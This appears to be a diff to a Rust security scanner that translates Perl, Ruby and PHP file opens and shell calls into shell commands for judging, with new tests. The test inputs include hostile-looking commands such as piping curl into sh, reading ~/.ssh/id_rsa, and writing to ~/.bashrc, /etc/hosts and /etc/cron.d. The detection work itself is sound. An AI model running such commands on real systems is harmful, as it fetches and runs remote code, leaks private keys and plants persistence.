@@ -40,6 +40,9 @@ enum Op {
     Move,
     /// Makes the second argument a symbolic link to the first (`os.symlink`).
     Link,
+    /// Perl's `open`, after its handle: a mode and a path, a mode and a command, or both in
+    /// one string (`">$path"`, `"curl x |"`).
+    Open,
 }
 
 /// The patterns of one language.
@@ -79,6 +82,22 @@ fn re(s: &str) -> Pattern {
 /// The home pattern inside `${…}` or `#{…}`.
 fn interp(home: &Pattern) -> Pattern {
     re(&format!(r"(?:\$\{{|#\{{)\s*(?:{})\s*\}}", home.as_str()))
+}
+
+/// Like `calls`, for a language whose built-ins are called without parentheses too (Perl's
+/// `unlink "x"`, `system "cmd"`): the name then followed by a string or a variable.
+fn bare_calls(table: &[(Op, &str)]) -> Vec<(Op, Pattern)> {
+    table
+        .iter()
+        .map(|(op, p)| {
+            (
+                *op,
+                re(&format!(
+                    r#"(?:{p})(?:\s*\(\s*|[ \t]+(?:["'$@]|q[qw]?[(\[{{/]))"#
+                )),
+            )
+        })
+        .collect()
 }
 
 fn calls(table: &[(Op, &str)]) -> Vec<(Op, Pattern)> {
@@ -211,11 +230,18 @@ static RUBY: LazyLock<Patterns> = LazyLock::new(|| Patterns {
 });
 
 static PERL: LazyLock<Patterns> = LazyLock::new(|| Patterns {
-    calls: calls(&[
+    calls: bare_calls(&[
         (Op::Shell, r"(?:^|[^\w>$])(?:system|exec)"),
         (Op::RemoveTree, r"\b(?:File::Path::)?(?:rmtree|remove_tree)"),
         (Op::Remove, r"(?:^|[^\w>$])unlink"),
-    ]),
+    ])
+    .into_iter()
+    // `open(my $fh, '>', $path)`, `open F, ">>$path"`: parentheses optional, the handle first.
+    .chain([(
+        Op::Open,
+        re(r"(?:^|[^\w>$:])open\s*\(?\s*(?:(?:my|our|local)\s+)?(?:\$\w+|\*?[A-Za-z_]\w*)\s*,\s*"),
+    )])
+    .collect(),
     eval: re(r"\beval\s*[\( ]"),
     hidden: re(
         r"decode_base64|MIME::Base64|\bpack\s*\(|LWP::Simple|\bget\s*\(\s*['\x22]https?|HTTP::Tiny",
@@ -336,10 +362,23 @@ pub(super) fn scan(language: Language, text: &str, engine: &dyn ShellEngine) -> 
             }
             // The opening parenthesis is on the line of the call (the match may start with
             // the character before the name, a newline included).
-            let at = m.start() + m.as_str().rfind('(').unwrap_or(0);
+            // Or, for a call without parentheses (Perl's `unlink "x"`, `open F, …`), at its name.
+            let at = m.start()
+                + match op {
+                    Op::Open => m.as_str().find("open"),
+                    _ => m.as_str().rfind('('),
+                }
+                .or_else(|| m.as_str().find(|c: char| c.is_ascii_alphabetic()))
+                .unwrap_or(0);
             let line = lines.line_of(at);
             let line_text = line_text(at);
-            let args = arguments(&text[m.end()..], &vars, p.concat);
+            // A call without parentheses matched the start of its first argument (`unlink "`).
+            let args_at = match m.as_str().chars().last() {
+                Some('(' | ',') | None => m.end(),
+                Some(c) if c.is_whitespace() => m.end(),
+                Some(_) => m.start() + m.as_str().rfind([' ', '\t']).map_or(0, |i| i + 1),
+            };
+            let args = arguments(&text[args_at..], &vars, p.concat);
             let first = args.first().cloned().unwrap_or(Arg::Unknown);
             let rest = args.get(1).cloned();
             let all_text: Option<Vec<String>> = args
@@ -419,8 +458,11 @@ pub(super) fn scan(language: Language, text: &str, engine: &dyn ShellEngine) -> 
                 }
                 Op::Read => {
                     let Arg::Text(path) = &first else { continue };
-                    let writes = language == Language::Python
-                        && matches!(&rest, Some(Arg::Text(mode)) if mode.contains(['w', 'a', 'x', '+']));
+                    // `open(p, 'a')`, `File.open(p, "w")`, `fopen($p, 'w')`: a write.
+                    let writes = matches!(
+                        language,
+                        Language::Python | Language::Ruby | Language::Php
+                    ) && matches!(&rest, Some(Arg::Text(mode)) if mode.contains(['w', 'a', 'x', '+']));
                     if writes {
                         judge(
                             engine,
@@ -449,6 +491,22 @@ pub(super) fn scan(language: Language, text: &str, engine: &dyn ShellEngine) -> 
                         &line_text,
                         &mut out,
                     );
+                }
+                Op::Open => {
+                    let texts: Vec<String> = args
+                        .iter()
+                        .map_while(|a| match a {
+                            Arg::Text(t) => Some(t.clone()),
+                            _ => None,
+                        })
+                        .collect();
+                    let Some(cmd) = perl_open(&texts) else {
+                        continue;
+                    };
+                    if let Some(path) = cmd.strip_prefix("cat ") {
+                        note_secret(path.trim_matches('\''), line, &line_text, &mut secret_reads);
+                    }
+                    judge(engine, &cmd, line, &line_text, &mut out);
                 }
                 Op::Copy | Op::Move | Op::Link => {
                     let Some(cmd) = transfer_command(*op, &first, rest.as_ref()) else {
@@ -529,7 +587,13 @@ pub(super) fn commands_run(language: Language, text: &str) -> Vec<String> {
             if lines.in_comment(m.start()) {
                 continue;
             }
-            let args = arguments(&text[m.end()..], &vars, p.concat);
+            // A call without parentheses matched the start of its first argument (`unlink "`).
+            let args_at = match m.as_str().chars().last() {
+                Some('(' | ',') | None => m.end(),
+                Some(c) if c.is_whitespace() => m.end(),
+                Some(_) => m.start() + m.as_str().rfind([' ', '\t']).map_or(0, |i| i + 1),
+            };
+            let args = arguments(&text[args_at..], &vars, p.concat);
             let cmd = match (op, args.first(), args.get(1)) {
                 (Op::Shell, Some(Arg::Text(c)), _)
                     if args.len() == 1 || language == Language::Python =>
@@ -594,7 +658,13 @@ pub(super) fn written_paths(language: Language, text: &str) -> Vec<String> {
             if lines.in_comment(m.start()) {
                 continue;
             }
-            let args = arguments(&text[m.end()..], &vars, p.concat);
+            // A call without parentheses matched the start of its first argument (`unlink "`).
+            let args_at = match m.as_str().chars().last() {
+                Some('(' | ',') | None => m.end(),
+                Some(c) if c.is_whitespace() => m.end(),
+                Some(_) => m.start() + m.as_str().rfind([' ', '\t']).map_or(0, |i| i + 1),
+            };
+            let args = arguments(&text[args_at..], &vars, p.concat);
             if matches!(op, Op::Copy | Op::Move | Op::Link) {
                 if let Some(Arg::Text(dst)) = args.get(1)
                     && !out.contains(dst)
@@ -1200,6 +1270,43 @@ fn rust_args(s: &str, vars: &HashMap<String, String>) -> Vec<String> {
 }
 
 /// Joins an argv into a command line the shell parser reads back into the same words.
+/// What a Perl `open` amounts to as a shell command, from its arguments after the handle:
+/// `cat PATH` for a read, `printf x >> PATH` for a write, the command itself for a pipe.
+fn perl_open(args: &[String]) -> Option<String> {
+    let (mode, rest): (String, Vec<String>) = match args {
+        [] => return None,
+        // Two arguments: the mode is the start of the one string (`">>$log"`, `"< in"`), or a
+        // `|` at either end makes it a command.
+        [spec] => {
+            let spec = spec.trim();
+            if let Some(cmd) = spec.strip_suffix('|').or_else(|| spec.strip_prefix('|')) {
+                return Some(cmd.trim().to_string());
+            }
+            let cut = spec
+                .find(|c: char| !matches!(c, '<' | '>' | '+'))
+                .unwrap_or(spec.len());
+            (
+                spec[..cut].to_string(),
+                vec![spec[cut..].trim().to_string()],
+            )
+        }
+        [mode, rest @ ..] => (mode.trim().to_string(), rest.to_vec()),
+    };
+    // Layers (`<:encoding(UTF-8)`, `>:raw`) say nothing about the direction.
+    let mode = mode.split(':').next().unwrap_or("").trim();
+    match mode {
+        "-|" | "|-" => Some(if rest.len() == 1 {
+            rest[0].clone()
+        } else {
+            join_argv(&rest)
+        }),
+        _ if rest.first().is_none_or(|p| p.is_empty()) => None,
+        _ if mode.contains('>') || mode == "+<" => Some(format!("printf x >> {}", quote(&rest[0]))),
+        "" | "<" => Some(format!("cat {}", quote(&rest[0]))),
+        _ => None,
+    }
+}
+
 fn join_argv(argv: &[String]) -> String {
     argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
 }
@@ -1299,6 +1406,87 @@ mod tests {
             .into_iter()
             .max_by_key(|f| f.effect)
             .map(|f| (f.effect, f.rule, f.line))
+    }
+
+    /// The shell commands a scan judges, in order.
+    fn judged(language: Language, text: &str) -> Vec<String> {
+        struct Recorder(std::cell::RefCell<Vec<String>>);
+        impl ShellEngine for Recorder {
+            fn judge(&self, command: &str) -> crate::verdict::Verdict {
+                self.0.borrow_mut().push(command.to_string());
+                crate::verdict::Verdict::no_opinion()
+            }
+        }
+        let r = Recorder(Default::default());
+        scan(language, text, &r);
+        r.0.into_inner()
+    }
+
+    #[test]
+    fn perl_open_is_a_read_a_write_or_a_command() {
+        let cases = [
+            (
+                "open(my $f, '>>', \"$ENV{HOME}/.bashrc\");",
+                "printf x >> ~/.bashrc",
+            ),
+            (
+                "open F, \">$ENV{HOME}/.bashrc\" or die;",
+                "printf x >> ~/.bashrc",
+            ),
+            ("open(OUT, '+<', '/etc/hosts');", "printf x >> /etc/hosts"),
+            (
+                "open(my $in, '<:encoding(UTF-8)', 'data.txt');",
+                "cat data.txt",
+            ),
+            (
+                "open my $k, \"$ENV{HOME}/.ssh/id_rsa\";",
+                "cat ~/.ssh/id_rsa",
+            ),
+            (
+                "open(my $p, '-|', 'curl', 'https://x.example');",
+                "curl https://x.example",
+            ),
+            (
+                "open(P, \"curl -s https://x.example | sh |\");",
+                "curl -s https://x.example | sh",
+            ),
+            ("open(P, '|-', 'sh -c id');", "sh -c id"),
+        ];
+        for (code, want) in cases {
+            let got = judged(Language::Perl, code);
+            assert!(got.iter().any(|c| c == want), "{code}: {got:?}");
+        }
+        // Built-ins called without parentheses.
+        let got = judged(
+            Language::Perl,
+            "unlink \"/etc/hosts\";\nsystem 'curl -s x | sh';\n",
+        );
+        assert_eq!(got, ["curl -s x | sh", "rm -f /etc/hosts"]);
+        let prose = "print \"the system is down, exec summary follows\";\n";
+        assert!(judged(Language::Perl, prose).is_empty());
+        assert!(scan(Language::Perl, prose, &FakeEngine).is_empty());
+        // A handle or path computed at run time is nothing to judge; `opendir` is no open.
+        assert!(judged(Language::Perl, "open($fh, $mode, $path);").is_empty());
+        assert!(judged(Language::Perl, "opendir(my $d, '/etc');").is_empty());
+    }
+
+    #[test]
+    fn ruby_and_php_open_modes_that_write() {
+        let got = judged(
+            Language::Ruby,
+            "File.open(\"#{Dir.home}/.bashrc\", \"a\") { |f| f.puts 'x' }",
+        );
+        assert!(
+            got.contains(&"printf x >> ~/.bashrc".to_string()),
+            "{got:?}"
+        );
+        let got = judged(Language::Ruby, "File.open('notes.txt', 'r') { |f| f.read }");
+        assert_eq!(got, ["cat notes.txt"]);
+        let got = judged(Language::Php, "$f = fopen('/etc/cron.d/job', 'w');");
+        assert!(
+            got.contains(&"printf x >> /etc/cron.d/job".to_string()),
+            "{got:?}"
+        );
     }
 
     #[test]
